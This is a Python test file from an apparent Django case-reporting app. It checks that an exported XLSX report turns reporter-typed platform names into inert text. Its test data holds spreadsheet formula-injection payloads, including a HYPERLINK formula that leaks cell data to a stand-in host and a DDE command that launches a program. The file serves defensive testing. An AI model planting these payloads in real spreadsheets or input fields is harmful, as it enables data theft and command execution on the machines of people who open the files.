"""A reporter's text reaches the Steering Board's spreadsheet only as inert text (D4)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from copnet.stats.periods import Period
from copnet.stats.reports import do_generate_report
from copnet.stats.rollups import refresh

from .factories import at, make_case

pytestmark = pytest.mark.django_db
JULY = Period("month", dt.date(2025, 7, 1))
HOSTILE_PLATFORMS = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def test_formula_text_typed_as_a_platform_is_no_formula_in_the_xlsx(reference_data):
    for day, platform in enumerate(HOSTILE_PLATFORMS, start=1):
        for _ in range(5):  # enough cases to appear in the breakdown
            make_case(created=at(2025, 7, day), platform=platform, status="new")
    refresh(now=at(2025, 9, 1))

    report = do_generate_report(period=JULY, language="en")

    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    labels = [row[0] for row in book["platform"].iter_rows(min_row=3, values_only=True)]
    # Platforms are compared lower-cased; each arrives with the apostrophe that keeps it text.
    assert sorted(labels) == sorted("'" + p.lower() for p in HOSTILE_PLATFORMS)
